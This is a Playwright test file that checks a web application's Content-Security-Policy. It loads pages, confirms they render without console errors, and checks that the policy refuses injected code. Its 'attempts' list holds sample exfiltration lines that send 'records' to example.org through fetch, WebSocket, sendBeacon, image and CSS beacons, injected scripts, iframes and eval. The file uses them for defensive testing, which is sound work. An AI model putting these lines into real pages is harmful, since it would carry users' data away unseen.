import assert from 'node:assert/strict';
import { mkdir } from 'node:fs/promises';
import { createServer } from 'node:http';
import { setTimeout as delay } from 'node:timers/promises';
import { type Browser, chromium, type Page } from 'playwright-core';
import { chromiumArguments, findChromium } from '../../scripts/chromium.mjs';
import { freePort } from './server.ts';

/** How long a page may take, in milliseconds: machines are slow. */
const patience = 90_000;

interface Checked {
  readonly url: string;
  readonly paths: readonly string[];
  /** The form of a record with a picture, where there are such records. */
  readonly form: string | undefined;
  /** The folder for screenshots. */
  readonly screenshots: string;
}

/**
 * Opens pages of a running application as its people do, and does in one of them what code that carries records away would do. Expects that the
 * pages work without a word in the console, that their pictures are shown, and that everything else is refused.
 */
export async function keepsToPolicy({ url, paths, form, screenshots }: Checked): Promise<void> {
  await mkdir(screenshots, { recursive: true });
  const site = await startPictureSite();
  // A page with a frame that was refused may never close: the browser is ended, not asked to.
  const process = await chromium.launchServer({ executablePath: await findChromium(), args: chromiumArguments });
  const browser = await chromium.connect(process.wsEndpoint());
  try {
    const page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
    page.setDefaultTimeout(patience);
    const faults: string[] = [];
    page.on('console', (message) => {
      if (['error', 'warning'].includes(message.type())) faults.push(message.text());
    });
    page.on('pageerror', (error) => faults.push(String(error)));
    for (const path of ['/', ...paths, '/api/docs']) {
      await open(page, url + path);
      await picturesAreShown(page);
      assert.deepEqual(faults, [], `${path} opens without a word`);
    }
    if (form !== undefined) await showsNewPicture(page, url + form, site.url, screenshots);
    await refuses(browser, url);
  } finally {
    await process.kill();
    await site.stop();
  }
}

/** In development a page loads itself anew when Vite has found another package to prepare, so that it takes a moment to come to rest. */
async function open(page: Page, address: string): Promise<void> {
  for (let attempt = 1; ; attempt += 1) {
    try {
      await page.goto(address, { waitUntil: 'networkidle' });
      break;
    } catch (error) {
      if (attempt === 5 || !/interrupted by another navigation|ERR_ABORTED/.test(String(error))) throw error;
    }
  }
  await page.locator('h1').first().waitFor();
}

/** Pictures are loaded when they come into sight, and have a size once they are there. */
async function picturesAreShown(page: Page): Promise<number> {
  const pictures = await page.locator('img').elementHandles();
  for (const picture of pictures) {
    await picture.scrollIntoViewIfNeeded();
    await page.waitForFunction((image) => image instanceof HTMLImageElement && image.naturalWidth > 0, picture);
  }
  return pictures.length;
}

/** Gives a record a picture of a site that no record has named, and expects to see it without doing anything more. */
async function showsNewPicture(page: Page, form: string, site: string, screenshots: string): Promise<void> {
  await open(page, form);
  const control = page.locator('input[inputmode=url]:not([type=url])').first();
  const before = await control.inputValue();
  await control.fill(`${site}/picture.svg`);
  await page.getByText('A picture from a new site is shown once it is saved.').waitFor();
  await page.screenshot({ path: `${screenshots}/form.png`, fullPage: true });
  await save(page);
  await page.waitForFunction((start) => {
    const picture = document.querySelector<HTMLImageElement>(`main img[src^="${start}"]`);
    return picture !== null && picture.naturalWidth > 0;
  }, site);
  await page.screenshot({ path: `${screenshots}/saved.png`, fullPage: true });
  await open(page, form);
  await control.fill(before);
  await save(page);
}

/** The application says so in passing: whoever looks for it later may be too late. */
async function save(page: Page): Promise<void> {
  const said = page.getByText(/ saved$/).waitFor();
  await Promise.all([said, page.getByRole('button', { name: 'Save changes' }).click()]);
}

/** What code in a page would try, and what of the policy refuses it. */
const attempts: readonly [code: string, directive: string][] = [
  ["void fetch('https://example.org/?records').catch(() => {})", 'connect-src'],
  ["void new WebSocket('wss://example.org')", 'connect-src'],
  ["navigator.sendBeacon('https://example.org', 'records')", 'connect-src'],
  ["new Image().src = 'https://example.org/?records'", 'img-src'],
  ["document.body.style.background = 'url(https://example.org/?records)'", 'img-src'],
  [appended('script', { src: 'https://example.org/x.js' }), 'script-src-elem'],
  [appended('script', { text: 'window.ran = true' }), 'script-src-elem'],
  [appended('style', { textContent: 'p { color: red }' }), 'style-src-elem'],
  [appended('iframe', { src: 'https://example.org' }), 'frame-src'],
  [appended('link', { rel: 'prefetch', href: 'https://example.org/?records' }), 'default-src'],
  ["setTimeout('window.ran = true')", 'script-src'],
  ["setTimeout(() => eval('window.ran = true'))", 'script-src'],
  ["setTimeout(() => new Function('window.ran = true')())", 'script-src'],
];

function appended(element: string, properties: object): string {
  return `void document.body.append(Object.assign(document.createElement('${element}'), ${JSON.stringify(properties)}))`;
}

async function refuses(browser: Browser, url: string): Promise<void> {
  // A page that was refused a picture is loaded anew, so that each of those has one of its own.
  const isPicture = ([, directive]: (typeof attempts)[number]) => directive === 'img-src';
  const groups = [attempts.filter((attempt) => !isPicture(attempt)), ...attempts.filter(isPicture).map((one) => [one])];
  for (const group of groups) {
    const page = await browser.newPage();
    page.setDefaultTimeout(patience);
    let note: (directive: string) => void = () => {};
    await page.exposeFunction('noteRefused', (directive: string) => note(directive));
    await page.addInitScript(
      "document.addEventListener('securitypolicyviolation', (event) => noteRefused(event.effectiveDirective))",
    );
    await open(page, url);
    for (const [code, directive] of group) {
      const isRefused = new Promise<void>((resolve) => {
        note = (by) => {
          if (by === directive) resolve();
        };
      });
      await inTime(page.evaluate(code), `${code} did not come back.`);
      await inTime(isRefused, `${code} was not refused by ${directive}.`);
    }
  }
}

/** Fails with a sentence where something takes too long, whatever the browser does meanwhile. */
async function inTime(action: Promise<unknown>, sentence: string): Promise<void> {
  const timer = new AbortController();
  const late = delay(patience, undefined, { signal: timer.signal }).then(() => assert.fail(sentence));
  try {
    await Promise.race([action, late]);
  } finally {
    late.catch(() => {});
    timer.abort();
  }
}

/** A server of one picture, on a port of its own: for a page that is another site. */
async function startPictureSite(): Promise<{ url: string; stop(): Promise<void> }> {
  const server = createServer((_request, response) => {
    response.setHeader('Content-Type', 'image/svg+xml');
    response.end(
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 5"><path fill="#c0392b" d="M0 0h8v5H0z"/></svg>',
    );
  });
  const port = await freePort();
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${port}`,
    async stop() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}
